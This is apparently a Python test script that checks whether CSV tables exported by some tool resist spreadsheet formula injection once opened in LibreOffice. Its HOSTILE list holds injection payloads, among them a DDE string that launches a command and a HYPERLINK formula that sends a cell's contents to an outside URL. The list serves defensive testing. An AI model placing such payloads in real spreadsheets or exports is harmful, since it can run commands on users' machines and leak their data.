"""Reads a pack's tables with Python's csv, and what LibreOffice made of them (flat ODF)."""

import csv
import json
import sys
import xml.etree.ElementTree as xml
from pathlib import Path

OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?x="&A1,"more")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "'=1+1",
    "'plain",
    'a "quoted" name, with a comma; and =1+1',
    "O'Neil",
]


def rows(path):
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


def tables(folder):
    found = sorted(Path(folder, "data").glob("*.csv"))
    assert found, f"no tables in {folder}"
    return found


def cells(path):
    """The sheet's rows, as text; and its formulas."""
    sheet = xml.parse(path).getroot().find(f".//{TABLE}table")
    formulas, out = [], []
    for row in sheet.iter(f"{TABLE}table-row"):
        line = []
        for cell in row:
            if cell.tag not in (f"{TABLE}table-cell", f"{TABLE}covered-table-cell"):
                continue
            if cell.get(f"{TABLE}formula"):
                formulas.append(cell.get(f"{TABLE}formula"))
            text = "\n".join(paragraph(p) for p in cell.findall(f"{TEXT}p"))
            line += [text] * int(cell.get(f"{TABLE}number-columns-repeated", "1"))
        out += [line] * min(int(row.get(f"{TABLE}number-rows-repeated", "1")), 1000)
    return out, formulas


def paragraph(node):
    """Text with the spaces that ODF writes as elements."""
    text = node.text or ""
    for child in node:
        if child.tag == f"{TEXT}s":
            text += " " * int(child.get(f"{TEXT}c", "1"))
        elif child.tag == f"{TEXT}tab":
            text += "\t"
        else:
            text += paragraph(child)
        text += child.tail or ""
    return text


def schema(pack):
    described = json.loads(Path(pack, "data/schema.json").read_text("utf-8"))["tables"]
    assert sorted(table["file"] for table in described) == [path.name for path in tables(pack)]
    for table in described:
        header, *body = rows(Path(pack, "data", table["file"]))
        assert header == [column["name"] for column in table["columns"]], table["file"]
        for number, row in enumerate(body, 2):
            assert len(row) == len(header), f"{table['file']}:{number}: {len(row)} cells"


def no_formulas(pack, office):
    for path in tables(pack):
        _, formulas = cells(Path(office, path.stem + ".fods"))
        assert not formulas, f"{path.name}: {formulas}"


def same(pack, office):
    for path in tables(pack):
        expected = rows(path)
        shown, _ = cells(Path(office, path.stem + ".fods"))
        width = len(expected[0])
        for number, row in enumerate(expected):
            line = (shown[number] + [""] * width)[:width]
            assert line == row, f"{path.name}:{number + 1}:\n{line}\n{row}"


def hostile_inputs(folder):
    quoted = json.dumps
    config = '[organization]\nname = "=1+1"\n\n[hr]\ntype = "csv"\npath = "roster.csv"\nlists = "all"\ntime_zone = "UTC"\n'
    config += "".join(
        f'\n[[exception]]\nrule = "direct-assignment"\nsubject = {{ user = "user{at}" }}\nreason = {quoted(value)}\n'
        f"approved_by = {quoted(value)}\nticket = {quoted(value)}\nexpires = 2020-01-31\n"
        for at, value in enumerate(HOSTILE)
    )
    Path(folder, "overstay.toml").write_text(config, "utf-8")
    with open(Path(folder, "roster.csv"), "w", encoding="utf-8", newline="") as file:
        out = csv.writer(file)
        out.writerow(["employee_id", "display_name", "status", "end_date"])
        for at, value in enumerate(HOSTILE):
            out.writerow([str(at), value, "terminated", "2020-01-31"])


def hostile_values(pack):
    def values(name, column):
        header, *body = rows(Path(pack, "data", name))
        written = [row[header.index(column)] for row in body]
        return {value[1:] if value.startswith("'") else value for value in written}

    assert values("exceptions.csv", "reason") == set(HOSTILE), values("exceptions.csv", "reason")
    assert values("exceptions.csv", "ticket") == set(HOSTILE)
    # Names of people are trimmed on the way in.
    people = {value.strip() for value in values("leavers.csv", "person")}
    assert people == {value.strip() for value in HOSTILE}, people ^ {value.strip() for value in HOSTILE}


def careless(path):
    with open(path, "w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([["detail"]] + [[value] for value in HOSTILE])


if __name__ == "__main__":
    command, *arguments = sys.argv[1:]
    {
        "schema": schema,
        "no-formulas": no_formulas,
        "same": same,
        "hostile-inputs": hostile_inputs,
        "hostile-values": hostile_values,
        "careless": careless,
    }[command](*arguments)
